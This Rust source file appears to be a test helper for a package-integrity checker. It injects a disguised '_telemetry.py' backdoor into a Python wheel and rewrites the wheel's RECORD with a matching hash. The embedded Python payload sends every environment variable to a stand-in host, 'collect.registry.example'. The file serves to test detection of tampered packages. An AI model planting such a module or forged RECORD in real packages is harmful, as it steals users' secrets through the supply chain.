//! Adds a backdoor to a wheel the way an attacker with the publisher's token would: one more
//! module, and a `RECORD` that lists it.

use std::io::{Cursor, Read as _, Write as _};

use anyhow::Context as _;
use data_encoding::BASE64URL_NOPAD;
use quorate_proto::Digest;
use zip::write::SimpleFileOptions;
use zip::{ZipArchive, ZipWriter};

/// The member that is added, below the package's own folder.
pub(crate) const MEMBER: &str = "_telemetry.py";

/// What it does: nothing here, for it is never run. It looks like what is found in the wild.
const CONTENT: &str = "import os, urllib.request\n\n\ndef report():\n    body = repr(dict(os.environ)).encode()\n    \
                       urllib.request.urlopen(\"https://collect.registry.example/\", body)\n";

/// The wheel with the backdoor; every other member keeps its bytes.
pub(crate) fn add_to(wheel: &[u8], package: &str) -> anyhow::Result<Vec<u8>> {
    let mut source = ZipArchive::new(Cursor::new(wheel)).context("reading the wheel")?;
    let member = format!("{package}/{MEMBER}");
    let mut target = ZipWriter::new(Cursor::new(Vec::new()));
    for index in 0..source.len() {
        let mut entry = source.by_index(index)?;
        if !entry.name()?.ends_with(".dist-info/RECORD") {
            target.raw_copy_file(entry)?;
            continue;
        }
        let (name, time) = (entry.name()?.into_owned(), entry.last_modified().unwrap_or_default());
        let mut record = String::new();
        entry.read_to_string(&mut record)?;
        let options = SimpleFileOptions::default().last_modified_time(time).unix_permissions(0o644);
        target.start_file(&member, options)?;
        target.write_all(CONTENT.as_bytes())?;
        target.start_file(name, options)?;
        target.write_all(with_line(&record, &member).as_bytes())?;
    }
    Ok(target.finish().context("writing the wheel")?.into_inner())
}

/// `RECORD` with a line for the added member before its own.
fn with_line(record: &str, member: &str) -> String {
    let hash = BASE64URL_NOPAD.encode(Digest::of(CONTENT.as_bytes()).as_bytes());
    let line = format!("{member},sha256={hash},{}\n", CONTENT.len());
    match record.lines().position(|line| line.contains(".dist-info/RECORD,")) {
        Some(own) => record.lines().enumerate().fold(String::new(), |text, (at, old)| {
            let added = if at == own { line.as_str() } else { "" };
            text + added + old + "\n"
        }),
        None => format!("{record}{line}"),
    }
}
